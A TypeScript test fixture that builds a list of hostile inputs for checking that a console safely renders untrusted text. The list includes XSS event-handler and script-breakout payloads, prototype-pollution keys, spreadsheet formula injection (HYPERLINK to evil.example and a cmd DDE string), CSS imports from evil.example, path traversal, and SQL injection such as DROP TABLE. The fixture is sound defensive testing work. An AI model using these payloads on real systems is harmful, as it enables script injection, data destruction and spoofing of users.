import { HOSTILE } from './hostile';

/** Code that hostile texts try to run. */
export const RUN = 'window.__ran=1';

const EVENTS = ['load', 'error', 'click', 'focus', 'mouseover', 'pointerenter', 'animationstart', 'toggle'];
const ELEMENTS = [
  'img src=x',
  'svg',
  'body',
  'input autofocus',
  'details open',
  'video src=x',
  'x tabindex=1',
];

const MORE = [
  ...ELEMENTS.flatMap((element) => EVENTS.map((event) => `<${element} on${event}=${RUN}>`)),
  ...EVENTS.flatMap((event) => [`" on${event}="${RUN}`, `' on${event}='${RUN}' x='`, `on${event}=${RUN}`]),
  ...['script', 'style', 'title', 'textarea', 'noscript', 'template', 'xmp', 'iframe', 'select', 'table'].map(
    (element) => `</${element}><script>${RUN}</script><${element}>`,
  ),
  ...['href', 'xlink:href', 'src', 'action', 'formaction', 'data', 'poster', 'background'].map(
    (attribute) => `<a ${attribute}="javascript:${RUN}">x</a>`,
  ),
  ...['animate', 'set', 'use', 'foreignObject', 'image', 'script', 'a', 'handler'].map(
    (element) => `<svg><${element} href="data:text/html,<script>${RUN}</script>" onbegin=${RUN} />`,
  ),
  ...[
    '__proto__',
    'prototype',
    'constructor',
    'hasOwnProperty',
    'valueOf',
    '__defineGetter__',
    'then',
    'length',
  ],
  ...[
    '__proto__.polluted',
    'constructor.prototype',
    '__proto__[x]',
    '$$typeof',
    'dangerouslySetInnerHTML',
    'ref',
  ],
  '{"__proto__":{"polluted":1}}',
  '{"$$typeof":"react.element","type":"script","props":{}}',
  `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${RUN}>"}}`,
  '[object Object]',
  'NaN',
  '1e309',
  '-0',
  'true',
  ...['=', '+', '-', '@', '\t=', ' =', "'="].map((sign) => `${sign}HYPERLINK("https://evil.example/","x")`),
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '{{count}}',
  '{{- name}}',
  '$t(links:title)',
  '{{name, uppercase}}',
  '<0>x</0>',
  '%s %d %o %c',
  '${alert(1)}',
  '{a|x}{b|y}',
  '{b}: {c}<br/>{@x}',
  'background:url(javascript:alert(1))',
  'color:red;position:fixed;inset:0;z-index:9999',
  '@import "https://evil.example/x.css"',
  'url(https://evil.example/x.png)',
  'expression(alert(1))',
  '../../../etc/passwd',
  '..%2f..%2fsign-in',
  '?tab=audit&x=1#y',
  '#/settings',
  "' OR 1=1 --",
  "'; DROP TABLE links; --",
  '%00',
  '%E0%A4%A',
  '\\u0000',
  '~!@#$%^&*()_+',
  '한국어\u202Egnp.exe',
  'שלום <b>x</b>',
  '٠١٢٣',
  'ＪＡＶＡＳＣＲＩＰＴ：alert(1)',
];

/** Values that a console might interpret as markup, code, URLs, formulas or property names. */
export const HOSTILE_TEXTS: readonly string[] = [...new Set([...HOSTILE, ...MORE])].filter(
  (value) => value.trim() !== '',
);
